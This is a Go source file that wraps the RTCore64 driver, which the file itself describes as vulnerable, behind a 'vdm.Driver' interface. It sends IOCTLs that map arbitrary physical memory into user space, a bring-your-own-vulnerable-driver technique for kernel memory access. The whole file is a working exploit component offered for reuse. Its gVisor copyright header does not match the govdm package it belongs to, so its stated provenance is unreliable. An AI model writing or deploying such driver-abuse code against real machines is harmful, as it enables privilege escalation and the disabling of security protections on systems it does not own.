// Copyright 2018 The gVisor Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

//go:build windows

// Package rtcore64 adapts the RTCore64 vulnerable driver (device node
// \\.\RTCore64) to the vdm.Driver interface, via its fixed-size
// request/response IOCTL protocol.
package rtcore64

import (
	"sync"
	"unsafe"

	"github.com/pkg/errors"
	"golang.org/x/sys/windows"

	"github.com/a2x/govdm/pkg/vdm"
)

const devicePath = `\\.\RTCore64`

const (
	ioctlMapPhysicalMemory   = 0x80002000
	ioctlUnmapPhysicalMemory = 0x80002004
)

// mappingRequest is the input struct for ioctlMapPhysicalMemory.
type mappingRequest struct {
	Addr uint64
	Size uint32
}

// mappingResponse is the output struct for ioctlMapPhysicalMemory. The
// driver fills Addr with the mapped virtual address.
type mappingResponse struct {
	Addr uint64
}

// unmappingRequest is the input struct for ioctlUnmapPhysicalMemory: the
// virtual address previously returned in a mappingResponse.
type unmappingRequest struct {
	Addr uint64
}

// Driver adapts RTCore64 to vdm.Driver. The underlying device handle isn't
// documented as supporting concurrent DeviceIoControl calls, so every
// round trip is serialized behind mu.
type Driver struct {
	mu     sync.Mutex
	handle windows.Handle
}

// Open opens a handle to the RTCore64 device node. The service backing it
// (typically loaded via vdm/winsvc) must already be running.
func Open() (*Driver, error) {
	path, err := windows.UTF16PtrFromString(devicePath)
	if err != nil {
		return nil, &vdm.DeviceOpenError{Path: devicePath, Err: err}
	}

	handle, err := windows.CreateFile(
		path,
		windows.GENERIC_READ|windows.GENERIC_WRITE,
		0,
		nil,
		windows.OPEN_EXISTING,
		windows.FILE_ATTRIBUTE_NORMAL,
		0,
	)
	if err != nil {
		return nil, &vdm.DeviceOpenError{Path: devicePath, Err: err}
	}

	return &Driver{handle: handle}, nil
}

// Close closes the device handle.
func (d *Driver) Close() error {
	if d.handle == windows.InvalidHandle || d.handle == 0 {
		return nil
	}
	return windows.CloseHandle(d.handle)
}

// Map implements vdm.Driver.
func (d *Driver) Map(addr uint64, size uint64) (vdm.Mapping, error) {
	d.mu.Lock()
	defer d.mu.Unlock()

	req := mappingRequest{Addr: addr, Size: uint32(size)}
	var res mappingResponse
	var returned uint32

	err := windows.DeviceIoControl(
		d.handle,
		ioctlMapPhysicalMemory,
		(*byte)(unsafe.Pointer(&req)),
		uint32(unsafe.Sizeof(req)),
		(*byte)(unsafe.Pointer(&res)),
		uint32(unsafe.Sizeof(res)),
		&returned,
		nil,
	)
	if err != nil {
		return vdm.Mapping{}, &vdm.MapFailedError{PhysAddr: addr, Err: errors.Wrap(err, "RTCore64 MapPhysicalMemory ioctl")}
	}

	// The driver returns the mapped virtual address in the output buffer
	// (res.Addr), not the input buffer; it's the only authoritative value
	// here.
	return vdm.Mapping{
		PhysAddr: addr,
		Size:     size,
		VirtAddr: uintptr(res.Addr),
	}, nil
}

// Unmap implements vdm.Driver.
func (d *Driver) Unmap(m vdm.Mapping) error {
	d.mu.Lock()
	defer d.mu.Unlock()

	req := unmappingRequest{Addr: uint64(m.VirtAddr)}

	err := windows.DeviceIoControl(
		d.handle,
		ioctlUnmapPhysicalMemory,
		(*byte)(unsafe.Pointer(&req)),
		uint32(unsafe.Sizeof(req)),
		nil,
		0,
		nil,
		nil,
	)
	if err != nil {
		return &vdm.UnmapFailedError{VirtAddr: uint64(m.VirtAddr), Err: errors.Wrap(err, "RTCore64 UnmapPhysicalMemory ioctl")}
	}
	return nil
}
